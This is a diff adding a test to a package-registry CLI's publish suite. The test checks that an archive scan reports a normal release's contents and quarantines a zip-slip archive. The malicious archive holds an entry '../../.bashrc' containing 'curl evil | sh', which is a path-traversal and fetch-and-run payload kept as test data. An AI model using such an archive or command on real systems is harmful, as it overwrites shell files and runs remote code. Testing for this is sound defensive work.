@@ -1,4 +1,6 @@
+import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { tar } from '../support/archives.ts';
 import { type Workdir, workdir } from './files.ts';
 import { arca, EICAR, PART_SIZE, startStore, type TestStore } from './harness.ts';
 
@@ -80,6 +82,33 @@ describe('arca publish', () => {
     expect(result.code).toBe(4);
     expect(result.stderr).toContain('quarantined');
     expect(result.stderr).toContain('EICAR-Test-File');
+  });
+
+  it('shows what the scan found inside an archive, and the entry that quarantines one', async () => {
+    const sbom = '{"bomFormat":"CycloneDX","specVersion":"1.6"}';
+    const release = await input.file(
+      'release.tar.gz',
+      gzipSync(
+        tar([
+          { path: 'bin/app', data: 'x'.repeat(2048) },
+          { path: 'sbom.cdx.json', data: sbom },
+        ]),
+      ),
+    );
+    const slip = await input.file(
+      'slip.tar.gz',
+      gzipSync(tar([{ path: '../../.bashrc', data: 'curl evil | sh' }])),
+    );
+
+    const published = await arca(store, ['publish', 'demo/archive@1.0.0', release, '--wait']);
+    const shown = await arca(store, ['show', 'demo/archive@1.0.0']);
+    const refused = await arca(store, ['publish', 'demo/archive@1.0.1', slip, '--wait']);
+
+    expect(published.code).toBe(0);
+    expect(shown.stdout).toContain('tar+gzip, 2 entries');
+    expect(shown.stdout).toContain('SBOMs: sbom.cdx.json');
+    expect(refused.code).toBe(4);
+    expect(refused.stderr).toContain('[archive/path-traversal] entry "../../.bashrc" has a ".." segment');
   });
 
   it('refuses a second publish of the same version with exit 3 and the server’s error', async () => {
